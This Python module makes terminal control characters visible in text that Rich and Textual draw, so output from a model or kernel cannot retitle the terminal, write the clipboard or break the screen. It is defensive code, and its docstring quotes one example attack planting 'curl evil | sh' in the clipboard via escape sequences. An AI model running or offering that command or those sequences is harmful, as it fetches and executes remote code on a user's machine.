"""Text from a model or a kernel is shown on the user's terminal, never obeyed by it.

A cell's ``print("\\x1b]0;...\\x07\\x1b]52;c;...")`` set the terminal's title and wrote its
clipboard (the next paste: ``curl evil | sh``), and cursor codes broke the screen. Rich and
Textual remove only BEL, BS, VT, FF and CR from text they draw; ``show_controls`` makes them
show every other control character as its visible picture (ESC as ␛), in one place: the
tables both libraries translate every text they draw with.
"""

from __future__ import annotations

import sys
from typing import Any

VISIBLE = (
    {code: chr(0x2400 + code) for code in range(32) if chr(code) not in "\t\n"}
    | {0x7F: "\u2421"}
    | {code: "\ufffd" for code in range(0x80, 0xA0)}
)
"""Each control character (C0 but tab and newline; DEL; C1, whose CSI starts a sequence on
its own) -> a character that only shows. The libraries keep dropping those they drop."""


def visible(text: str) -> str:
    """``text`` with its control characters shown, not sent (for a line the CLI prints)."""
    return text.translate(VISIBLE)


def show_controls() -> None:
    """Make Rich's and Textual's drawing show control characters (idempotent)."""
    import rich.control

    _extend(rich.control._CONTROL_STRIP_TRANSLATE)
    if "textual" in sys.modules:
        import textual.content

        _extend(textual.content._CONTROL_STRIP_TRANSLATE)


def _extend(table: dict[int, Any]) -> None:
    for code, shown in VISIBLE.items():
        table.setdefault(code, shown)
